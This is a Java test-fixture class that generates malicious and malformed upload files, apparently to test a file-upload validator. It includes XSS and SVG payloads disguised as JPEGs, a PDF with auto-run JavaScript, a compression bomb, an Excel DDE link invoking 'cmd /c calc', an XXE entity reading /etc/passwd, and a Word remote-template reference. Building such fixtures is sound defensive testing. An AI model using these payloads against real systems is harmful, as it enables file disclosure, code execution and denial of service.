package id.payung;

import id.payung.platform.images.DrawnPictures;
import id.payung.platform.images.ExifJpeg;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;

/** Files that are not what they are called, or more than that. By the name under which they come. */
final class MaliciousFiles {
  private static final String TYPES =
      "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
  private static final String RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
  private static final String PAGE = "<html><script>alert(1)</script></html>";

  private MaliciousFiles() {}

  /** Taken nowhere. */
  static Map<String, byte[]> createAll() throws IOException {
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("halaman.jpg", concatenate(ascii(PAGE), jpeg()));
    files.put("gambar.jpg", ascii("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"));
    files.put("naskah.jpg", ascii("GIF89a/*\1\0\1\0*/=1;alert(1)"));
    files.put("program.pdf", concatenate(ascii("MZ"), new byte[300]));
    files.put("halaman.pdf", concatenate(ascii(PAGE), pdf(false, null)));
    files.put("naskah.pdf", pdf(true, null));
    files.put("terkunci.pdf", pdf(false, "rahasia"));
    files.put("sobek.pdf", ascii("%PDF-1.7\n1 0 obj\n<<"));
    files.put("bom.pdf", compressionBomb());
    files.put("separuh.jpg", half(ExifJpeg.with(DrawnPictures.landscape(4_713, 640, 480), 1)));
    files.put("separuh.png", half(png()));
    files.put("separuh.pdf", half(pdf(false, null)));
    files.put("separuh.xlsx", half(zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml", "<workbook/>"))));
    files.put("kosong.jpg", new byte[0]);
    files.put("arsip.rar", ascii("Rar!\u001a\u0007\u0001\0"));
    files.put("makro.xlsx",
        zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml", "<workbook/>", "xl/vbaProject.bin", "x")));
    files.put("dde.xlsx",
        zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml", "<workbook/>", "xl/externalLinks/externalLink1.xml",
            "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")));
    files.put("entitas.xlsx", zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><workbook>&x;</workbook>")));
    files.put("surat.docx",
        zip(Map.of("[Content_Types].xml", TYPES, "word/document.xml", "<document/>", "word/_rels/settings.xml.rels",
            "<Relationships><Relationship Type=\"" + RELATIONS
                + "attachedTemplate\" Target=\"http://contoh.example.invalid/a.dotm\" "
                + "TargetMode=\"External\"/></Relationships>")));
    files.put("surat.xlsx", zip(
        Map.of("[Content_Types].xml", TYPES, "word/document.xml", "<document/>", "word/activeX/activeX1.bin", "x")));
    return files;
  }

  static byte[] jpeg() throws IOException {
    return ExifJpeg.with(DrawnPictures.landscape(4_711, 64, 48), 1);
  }

  /** Good to look at, and a page and an archive for who reads it otherwise. */
  static byte[] polyglotJpeg() throws IOException {
    return concatenate(jpeg(), ascii(PAGE), zip(Map.of("a.class", PAGE)));
  }

  static byte[] harmlessPdf() throws IOException {
    return concatenate(pdf(false, null), ascii("\n" + PAGE));
  }

  private static byte[] pdf(boolean runs, @org.jspecify.annotations.Nullable String password) throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (PDDocument pdf = new PDDocument()) {
      pdf.addPage(new PDPage());
      if (runs) {
        pdf.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
      }
      if (password != null) {
        pdf.protect(new StandardProtectionPolicy(password, password, new AccessPermission()));
      }
      pdf.save(bytes);
    }
    return bytes.toByteArray();
  }

  /** A table of objects that unpacks to more than any paper has. */
  private static byte[] compressionBomb() throws IOException {
    var packed = new ByteArrayOutputStream();
    try (var deflating = new java.util.zip.DeflaterOutputStream(packed)) {
      deflating.write(new byte[5 << 20]);
    }
    return concatenate(ascii("%PDF-1.5\n1 0 obj\n<</Type/XRef/W[1 2 1]/Root 1 0 R/Size 4/Filter/FlateDecode/Length "
        + packed.size() + ">>\nstream\n"), packed.toByteArray(), ascii("\nendstream\nendobj\nstartxref\n9\n%%EOF"));
  }

  private static byte[] half(byte[] whole) {
    return Arrays.copyOf(whole, whole.length * 6 / 10);
  }

  private static byte[] png() throws IOException {
    var bytes = new ByteArrayOutputStream();
    ImageIO.write(DrawnPictures.landscape(4_712, 64, 48), "png", bytes);
    return bytes.toByteArray();
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] concatenate(byte[]... parts) {
    var all = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      all.writeBytes(part);
    }
    return all.toByteArray();
  }

  private static byte[] zip(Map<String, String> parts) throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, String> part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(ascii(part.getValue()));
      }
    }
    return bytes.toByteArray();
  }
}
